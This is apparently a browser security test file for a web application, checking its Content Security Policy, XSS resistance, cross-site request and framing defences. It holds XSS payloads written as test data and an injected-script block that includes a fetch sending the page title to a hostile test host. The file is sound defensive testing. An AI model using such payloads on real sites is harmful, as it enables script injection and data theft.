import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { content } from '../kit/attacks.ts';
import { hostilePage } from '../kit/hostile-page.ts';
import { startDoor, startHostileSite, type HostileSite } from '../kit/hostile-site.ts';
import { everyPart, everyPath, MOVES, ODD, originOf } from '../kit/page-walk.ts';
import { atFirstStep, startRunWorld, stepOf, type RunWorld } from '../kit/run-world.ts';
import { builtWeb, openWeb, type TestWeb } from '../kit/web.ts';

// TRUST.md section 5 in a real browser: what a page of somebody else, and what somebody wrote into ours, may try there. What the server
// says to the same is in test/attacks and test/http.

let world: RunWorld;
let web: TestWeb;
let page: Page;
let site: HostileSite;
let change: string;
let run: string;

/** Runs where a text becomes a page, and asks this machine where a picture is loaded (46). */
const hostile = () =>
  `<img src=x onerror="taken=1"><svg onload="taken=1"> ![](http://127.1:${site.port}/seen)<script>taken=1</script>`;

/** What the product itself writes down, and says: an instant, and what was got. */
const SENTENCE = 'expected `two`, got `one` at 2026-01-05T10:00:00.000Z';

beforeAll(async () => {
  site = await startHostileSite();
  world = await startRunWorld({
    webRoot: builtWeb(),
    allowedHosts: ['interlock.example'],
    rulesOff: ['targets-in-environment', 'plan-complete'],
    // However long the pages take, no runner is lost here.
    timing: { leaseMs: 600_000 },
  });
  const begun = await atFirstStep(world, {
    title: hostile(),
    description: hostile(),
    targets: [{ name: 'web-1', type: 'host' }],
    steps: [stepOf(hostile().slice(0, 60)), stepOf('second')],
  });
  ({ change, id: run } = begun.run);
  web = await openWeb(world.server);
  ({ page } = web);
});
afterAll(async () => {
  await web.stop();
  await world.server.stop();
  await site.stop();
});

const as = (token: string, method: string, where: string, body?: unknown) =>
  world.server.ask(method, `/api/v1${where}`, { token, body });

/** What stands for each place of a path; a page that needs another one is to be added here. */
function filled(pattern: string): string {
  const kind = pattern.split('/')[1] ?? '';
  const ids: Record<string, string> = { changes: change, locks: 'LOCK-1', incidents: 'INC-1' };
  const parts: Record<string, string | undefined> = {
    $id: ids[kind],
    $run: run,
    $name: 'mallory',
    $connection: 'slack',
    $code: 'no_evidence',
  };
  return pattern.replaceAll(/\$\w+/g, (part) => {
    const value = parts[part];
    if (value === undefined) throw new Error(`expected what stands for \`${part}\` in \`${pattern}\``);
    return value;
  });
}

/** What others can write, everywhere that a page shows it. */
async function writeEverywhere(): Promise<void> {
  const { token } = await world.server.account('mona', { roles: ['management'] });
  const day = new Date(Date.now() + 86_400_000).toISOString().slice(0, 10);
  const lock = { kind: 'soft', environments: ['illumidesk.com'], category: 'other', first: day, last: day };
  await as(world.server.admin.token, 'POST', '/people', { name: 'mallory', displayName: hostile() });
  await as(world.ana.token, 'POST', `/changes/${change}/discussion`, { body: hostile() });
  await as(world.ana.token, 'POST', '/channel', { body: hostile() });
  await as(token, 'POST', '/locks', { ...lock, reason: `${hostile()} ${SENTENCE}` });
  await as(world.cora.token, 'POST', '/vetoes', { change, reason: `${hostile()} ${SENTENCE}` });
  // What is refused stands in the ledger, with a reason in the server's words.
  const refused = await as(world.ana.token, 'POST', '/vetoes', {
    change,
    reason: 'no',
    stopsRollback: false,
  });
  expect(refused.body.message).toContain('`ana`');
  await as(world.ana.token, 'POST', '/incidents', { title: hostile(), severity: 'S3' });
}

/** Goes to a page as a link within the pages does: the document stays, where the page needs no other one. */
async function goWithin(address: string): Promise<void> {
  await page.evaluate(`document.querySelector('h1').dataset.left = 'yes';
    history.pushState(null, '', ${JSON.stringify(address)});
    dispatchEvent(new PopStateEvent('popstate'));`);
  await page.locator('h1:not([data-left])').first().waitFor();
}

/** Once a page has what it asked for nothing on it is odd. */
async function look(where: string): Promise<void> {
  await page.getByText('Asking', { exact: true }).first().waitFor({ state: 'detached' });
  expect.soft(await page.evaluate(ODD), where).toEqual([]);
}

describe('every page', () => {
  const foreign: string[] = [];
  const broken = () => [...foreign, ...site.asked, ...web.complaints];

  it('asks nobody but its server, runs nothing that somebody wrote, and moves nothing for who wants that', async () => {
    await writeEverywhere();
    page.on('request', (request) => {
      if (!/^(?:data|blob):/.test(request.url()) && !request.url().startsWith(world.server.url))
        foreign.push(request.url());
    });
    await web.signIn(world.server.admin, '/nowhere');
    await page.locator('h1').waitFor();
    await page.emulateMedia({ reducedMotion: 'reduce' });
    const paths = await everyPath();
    expect(paths.length).toBeGreaterThan(25);
    for (const pattern of paths) {
      await goWithin(filled(pattern));
      await look(pattern);
    }
    expect(await page.evaluate(MOVES)).toEqual(['0s', '0s']);
    expect(broken()).toEqual([]);
  });

  it('of a change does the same in each of its parts', async () => {
    await web.go(`/changes/${change}`);
    for (const part of await everyPart()) {
      await page.locator(`a[data-part=${part}]`).click();
      await page.locator(`a[data-part=${part}][aria-current]`).waitFor();
      await look(part);
    }
    expect(broken()).toEqual([]);
  });

  it('may run our files alone, take styles by a nonce of its own, and draw a terminal where there is one', async () => {
    const nonces = new Set<string>();
    const paths = await everyPath();
    for (const pattern of paths) {
      const { headers } = await world.server.ask('GET', filled(pattern));
      const policy = headers.get('content-security-policy') ?? '';
      const wasm = pattern === '/runs/$run' ? " 'wasm-unsafe-eval'" : '';
      const nonce = /'nonce-([^']+)'/.exec(policy)?.[1] ?? '';
      nonces.add(nonce);
      expect
        .soft(policy.split('; '), pattern)
        .toEqual([
          "default-src 'none'",
          `script-src 'self'${wasm}`,
          `style-src 'self' 'nonce-${nonce}'`,
          "img-src 'self' data:",
          "font-src 'self'",
          "connect-src 'self'",
          "base-uri 'none'",
          "form-action 'self'",
          "frame-ancestors 'none'",
        ]);
    }
    expect(nonces.size).toBe(paths.length);
  });
});

/** Tries each of these in a page, by a script that came into it somehow; answers what the browser reported as refused. */
async function reported(tries: string): Promise<string[]> {
  await page.evaluate(`
    globalThis.refusals = [];
    document.addEventListener('securitypolicyviolation', (event) => refusals.push(event.effectiveDirective));
    const add = (tag, more) => document.body.append(Object.assign(document.createElement(tag), more));
    ${tries}`);
  const seen = async () => (await page.evaluate('refusals.toSorted()')) as string[];
  await expect.poll(async () => (await seen()).length).toBeGreaterThan(0);
  return seen();
}

describe('a script that got into a page', () => {
  it('is refused by the browser, whatever it is and whatever it asks for', async () => {
    await web.go('/changes');
    await page.locator('h1').waitFor();
    const there = `http://127.0.0.1:${site.port}`;
    const refusals = await reported(`
      add('script', { textContent: 'globalThis.taken = 1' });
      add('script', { src: '${there}/script.js' });
      add('img', { src: '${there}/seen.png' });
      add('iframe', { src: '${there}/frame' });
      add('style', { textContent: '* { color: red }' });
      add('base', { href: '${there}/' });
      document.body.setAttribute('onclick', 'globalThis.taken = 1');
      document.body.click();
      setTimeout('globalThis.taken = 1');
      fetch('${there}/told?' + document.title).catch(() => undefined);
      new WebSocket('ws://127.0.0.1:${site.port}/');
      const form = Object.assign(document.createElement('form'), { action: '${there}/form', method: 'post' });
      document.body.append(form);
      form.submit();
    `);
    await expect
      .poll(() => page.evaluate('[...new Set(refusals)].toSorted()'))
      .toEqual([
        'base-uri',
        'connect-src',
        'form-action',
        'frame-src',
        'img-src',
        'script-src',
        'script-src-attr',
        'script-src-elem',
        'style-src-elem',
      ]);
    expect(refusals.length).toBeGreaterThan(0);
    expect(
      await page.evaluate('[globalThis.taken, document.cookie, navigator.serviceWorker === undefined]'),
    ).toEqual([undefined, '', false]);
    expect(site.asked).toEqual([]);
    const wasm = `WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).then(() => 'compiled', () => 'refused')`;
    expect(await page.evaluate(wasm)).toBe('refused');
    await web.go(`/runs/${run}`);
    expect(await page.evaluate(wasm)).toBe('compiled');
  });
});

describe('a page of somebody else', () => {
  it.each([
    // A name of its own is another site to the browser: the session does not go along.
    ['of another site', 'localhost', false],
    // Another port is another origin of the same site: it goes along, and is not enough.
    ['of a neighbouring port', '127.0.0.1', true],
  ])('%s reads nothing and changes nothing', async (_, name, sends) => {
    await web.signIn(world.cora);
    const door = await startDoor(world.server.url);
    site.answer('/prize', hostilePage(`http://127.0.0.1:${door.port}`, change));
    const other = await page.context().newPage();
    const [before, entries] = [await content(world.server), (await world.server.ledger()).length];
    await other.goto(`http://${name}:${site.port}/prize`);
    // What is sent without a word of ours is answered, and nobody there may read it; what needs one is not even sent.
    expect(await other.evaluate('attack()')).toEqual([]);
    const posted = () => door.passed.filter(({ method }) => method === 'POST');
    await expect.poll(() => posted().length).toBe(5);
    for (const { status, cookies } of posted())
      expect({ status, session: cookies.includes('interlock_session') }).toEqual({
        status: 403,
        session: sends,
      });
    expect(await content(world.server)).toEqual(before);
    const recorded = (await world.server.ledger()).slice(entries);
    expect(recorded).toHaveLength(sends ? 5 : 0);
    for (const entry of recorded)
      expect(entry).toMatchObject({ outcome: 'deny', actor: { subject: 'cora' }, type: 'access.denied' });
    await other.close();
    await door.stop();
  });

  it('frames nothing of ours, and loses a window of ours that it opened', async () => {
    const pages = ['/', `/runs/${run}`, '/status', '/api/v1/me', '/signal.svg'];
    const frames = pages.map((one) => `<iframe src="${world.server.url}${one}"></iframe>`).join('');
    site.answer('/frames', `<!doctype html>${frames}<object data="${world.server.url}/"></object>`);
    const other = await page.context().newPage();
    await other.goto(`http://127.0.0.1:${site.port}/frames`);
    const framed = other.frames().filter((frame) => frame !== other.mainFrame());
    expect(framed.length).toBeGreaterThanOrEqual(pages.length);
    for (const frame of framed) expect(await originOf(frame)).toBe('null');
    const [opened] = await Promise.all([
      other.waitForEvent('popup'),
      other.evaluate(`globalThis.opened = open('${world.server.url}/'), undefined`),
    ]);
    await opened.locator('h1').waitFor();
    await expect.poll(() => other.evaluate('opened.closed')).toBe(true);
    await expect.poll(() => opened.evaluate('opener')).toBe(null);
    await opened.close();
    await other.close();
  });

  it('is not ours by having our address: a name that was laid on it is refused', async () => {
    const { port } = new URL(world.server.url);
    const answer = await page.goto(`http://evil.example:${port}/`);
    expect(answer?.status()).toBe(421);
    expect(await page.content()).not.toContain('root');
  });
});
